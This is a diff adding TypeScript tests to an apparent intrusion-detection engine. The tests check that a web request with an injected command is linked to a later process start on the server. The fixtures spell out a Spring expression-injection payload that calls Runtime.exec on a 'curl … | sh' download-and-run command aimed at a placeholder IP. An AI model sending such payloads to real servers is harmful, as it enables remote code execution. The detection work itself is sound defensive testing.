@@ -110,3 +110,41 @@ describe('a planted script that is used', () => {
     expect(verdict, told(result)).toBe('none');
   });
 });
+
+describe('a command in a request that was answered', () => {
+  const FETCH = 'curl -s http://203.0.113.141/a.sh|sh';
+  /** A rule says of the request that it held a command; the server's process log says what was started after `delay`. */
+  const exploited = (command: string, delay = SECOND): { scene: Web; request: string } => {
+    const scene = new Web();
+    scene.month();
+    const code = encodeURIComponent(`\${T(java.lang.Runtime).getRuntime().exec('${FETCH}')}`);
+    const request = scene.request(0, INTRUDER, 'POST', '/render', `view=${code}`);
+    const entities = { 'source.ip': INTRUDER };
+    scene.finding('code-in-request', 'T1190', 'initial-access', 2, [request], entities, 'web-exploit');
+    scene.add('audit', delay, 'process-start', { 'host.name': 'www1', 'process.command_line': command });
+    return { scene, request };
+  };
+
+  it('was run where a program was started with what it was to fetch: an intrusion, and the request is the entry', async () => {
+    const { scene, request } = exploited(`sh -c ${FETCH}`);
+    const [verdict, result] = await verdictOf(scene);
+    expect(['probable', 'determined'], told(result)).toContain(verdict);
+    expect(entryIds(result)).toContain(request);
+    expect(result.anchor?.summary.en).toBe(`the command in the request of ${INTRUDER} was run on www1: sh -c ${FETCH}`);
+  });
+
+  it('was not, where the server started something else, or much later', async () => {
+    for (const { scene } of [exploited('curl -s http://192.0.2.1/update'), exploited(`sh -c ${FETCH}`, 20 * MINUTE)]) {
+      const [, result] = await verdictOf(scene);
+      expect(isNotShown(result), told(result)).toBe(true);
+    }
+  });
+
+  it('is read without fail where it is no valid encoding', async () => {
+    const { scene } = exploited(`sh -c ${FETCH}`);
+    for (const event of scene.events)
+      if (event.fields['url.path'] === '/render') event.fields['url.original'] = '/render?view=%E0%A4%A%25252525';
+    const [, result] = await verdictOf(scene);
+    expect(isNotShown(result), told(result)).toBe(true);
+  });
+});
